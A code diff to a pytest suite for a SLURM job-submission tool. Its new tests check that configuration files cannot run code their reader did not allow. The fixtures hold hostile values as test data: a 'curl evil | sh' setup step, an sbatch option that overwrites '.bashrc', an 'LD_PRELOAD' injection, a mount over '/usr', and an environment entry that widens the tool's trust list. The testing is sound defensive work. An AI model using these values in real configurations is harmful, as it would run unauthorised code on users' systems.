@@ -41,7 +41,7 @@ def command(tmp_path, monkeypatch, capsys):
     here.mkdir()
     monkeypatch.chdir(here)
     monkeypatch.delenv("SLURM_JOB_ID", raising=False)
-    for name, value in SECRETS.items():
+    for name, value in {**SECRETS, "PWD": str(here)}.items():
         monkeypatch.setenv(name, value)
 
     def run(section: str, *words: str) -> tuple[int, str]:
@@ -143,6 +143,8 @@ REFUSALS = {
     "escape": '{job_name: "\\e[31m"}',
     "carriage return": '{partition: "a\\rb"}',
     "no variable": "{env: {a-b: c}}",
+    "variable with a key": "{env: {HF_TOKEN: abc}}",
+    "trust by the back door": "{env: {AUTOMODEL_ALLOW: evil.}}",
     "mounts without a container": "{mounts: ['/a:/b']}",
     "no mount": "{container_image: x, mounts: [/data]}",
     "comma in a mount": "{container_image: x, mounts: ['/a,/etc:/b']}",
@@ -198,6 +200,42 @@ def test_a_dry_run_submits_nothing_and_writes_nothing(command, sbatch):
     assert [path.name for path in sbatch.parent.iterdir()] == ["sbatch"]
 
 
+CODE = {
+    "setup": "[curl evil | sh]",
+    "sbatch": "[--error=/home/me/.bashrc]",
+    "env": "{LD_PRELOAD: evil.so}",
+    "container_image": "evil/image",
+    "mounts": "['evil:/usr']",
+}
+
+
+@pytest.mark.parametrize("key", CODE)
+def test_a_file_runs_no_code_that_its_reader_did_not_allow(key, command, sbatch, snapshot):
+    image = "" if key == "container_image" else "container_image: mine, "
+    section = f"slurm: {{{image}{key}: {CODE[key]}}}\n"
+    mine = ["--allow", "slurm.container_image"] if image else []
+    code, printed = command(section, *mine)
+    assert (code, printed) == (2, snapshot)
+    assert not Path("slurm").exists()
+    assert not sbatch.with_name("sbatch.arguments").exists()
+    assert command(section, "--dry-run")[0] == 0, "it may be looked at"
+    assert command(section, *mine, "--allow", f"slurm.{key}")[0] == 0
+
+
+def test_what_its_reader_typed_or_allows_in_the_project_needs_no_flag(command, sbatch):
+    typed = ["slurm.setup=[date]", "slurm.env.A=b"]
+    assert command("slurm: {}\n", *typed)[0] == 0
+    assert command("slurm: {env: {B: c}}\n", *typed)[0] == 2, "half of it is the file's"
+    Path("pyproject.toml").write_text('[tool.automodel]\nallow = ["slurm."]\n')
+    assert command("slurm: {env: {B: c}, sbatch: [--exclusive]}\n", *typed)[0] == 0
+
+
+def test_no_file_passes_for_the_command_line(command, sbatch):
+    Path("<command line>").write_text("slurm: {setup: [date]}\n")
+    assert command("", "<command line>")[0] == 2
+    assert command("", "<command line>", "--allow", "slurm.setup")[0] == 0
+
+
 def test_it_prints_the_job_and_the_script(command, script, sbatch):
     expected = script("slurm: {job_name: a/b %j}\n")
     code, printed = command("slurm: {job_name: a/b %j}\n")
@@ -219,10 +257,10 @@ def test_secrets_travel_by_the_environment_alone(command, sbatch):
     section = (
         "wandb: {api_key: '${WANDB_API_KEY}'}\n"
         "slurm:\n  wandb_key: ${WANDB_API_KEY}\n  hf_token: token-hunter2\n"
-        "  env: {MINE: 'a ${OTHER}', PLAIN: seen}\n"
+        "  env: {MINE: 'a ${OTHER}', PLACE: '${PWD}', PLAIN: seen}\n"
     )
     _, shown = command(section, "--dry-run")
-    code, printed = command(section, "wandb.api_key=${WANDB_API_KEY}")
+    code, printed = command(section, "wandb.api_key=${WANDB_API_KEY}", "--allow", "slurm.env")
     assert code == 0, printed
     written = "".join(path.read_text() for path in Path("slurm").iterdir())
     assert "export PLAIN=seen" in written
@@ -233,6 +271,7 @@ def test_secrets_travel_by_the_environment_alone(command, sbatch):
     assert "WANDB_API_KEY=wandb-hunter2" in environment
     assert "HF_TOKEN=token-hunter2" in environment
     assert "MINE=a other-hunter2" in environment
+    assert f"PLACE={Path.cwd()}" in environment, "which the script holds too, for its own reasons"
 
 
 def test_without_slurm_the_refusal_says_where_to_go(command, monkeypatch):
